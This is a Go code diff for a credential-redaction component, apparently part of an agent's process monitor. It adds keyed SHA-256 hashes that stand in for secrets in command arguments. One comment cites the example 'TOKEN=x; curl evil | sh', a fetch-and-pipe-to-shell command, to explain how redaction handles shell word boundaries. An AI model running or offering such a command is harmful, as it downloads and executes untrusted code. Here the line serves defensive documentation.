@@ -1,6 +1,10 @@
 package process
 
 import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/hex"
+	"io"
 	"slices"
 	"strings"
 )
@@ -8,10 +12,43 @@ import (
 // redacted stands where a credential stood, here and in shared/secret.
 const redacted = "[redacted]"
 
+// redactor takes credentials out. With a key it puts a hash of each in its place, so that a person can tell whether two
+// programs were given the same one. The hash is keyed with what only this agent knows, because a password that people
+// choose is found from a plain hash by hashing guesses; so hashes of two agents, or of two runs, cannot be compared.
+type redactor struct{ key []byte }
+
+// mark returns what stands in the place of a credential.
+func (r redactor) mark(value string) string {
+	if r.key == nil {
+		return redacted
+	}
+	h := hmac.New(sha256.New, r.key)
+	_, _ = io.WriteString(h, value) // a hash takes everything
+	return hashMark + hex.EncodeToString(h.Sum(nil))[:hashDigits] + "]"
+}
+
+// hashMark is how a mark with a hash begins, hashDigits how many follow and a bracket.
+const (
+	hashMark   = "[redacted:sha256:"
+	hashDigits = 12
+)
+
+// markLen returns the length of the mark that s begins with, 0 when it begins with none.
+func markLen(s string) int {
+	const whole = len(hashMark) + hashDigits + 1
+	switch {
+	case strings.HasPrefix(s, redacted):
+		return len(redacted)
+	case strings.HasPrefix(s, hashMark) && strings.IndexByte(s, ']') == whole-1:
+		return whole
+	}
+	return 0
+}
+
 // redact returns args without what looks like a credential, and how many it replaced. It changes nothing else and
 // returns args itself when there is none. Because rules see only what it leaves, a value ends at what ends a word in
 // a shell script: "TOKEN=x; curl evil | sh" keeps its second half.
-func redact(args []string) ([]string, int) {
+func (r redactor) redact(args []string) ([]string, int) {
 	total := 0
 	out := args
 	for i, arg := range args {
@@ -19,7 +56,7 @@ func redact(args []string) ([]string, int) {
 		if len(spans) == 0 {
 			continue
 		}
-		clean, n := replace(arg, spans)
+		clean, n := r.replace(arg, spans)
 		if n == 0 {
 			continue
 		}
@@ -64,7 +101,7 @@ func secrets(args []string, i int) []part {
 }
 
 // replace writes the mark over each part, merging those that overlap. What is marked already does not count.
-func replace(arg string, parts []part) (string, int) {
+func (r redactor) replace(arg string, parts []part) (string, int) {
 	slices.SortFunc(parts, func(a, b part) int { return a.from - b.from })
 	var b strings.Builder
 	n, at := 0, 0
@@ -74,11 +111,11 @@ func replace(arg string, parts []part) (string, int) {
 			i++
 			p.to = max(p.to, parts[i].to)
 		}
-		if p.from >= p.to || strings.HasPrefix(arg[p.from:], redacted) && p.to <= p.from+len(redacted) {
+		if p.from >= p.to || p.to <= p.from+markLen(arg[p.from:]) {
 			continue
 		}
 		b.WriteString(arg[at:p.from])
-		b.WriteString(redacted)
+		b.WriteString(r.mark(arg[p.from:p.to]))
 		at = p.to
 		n++
 	}
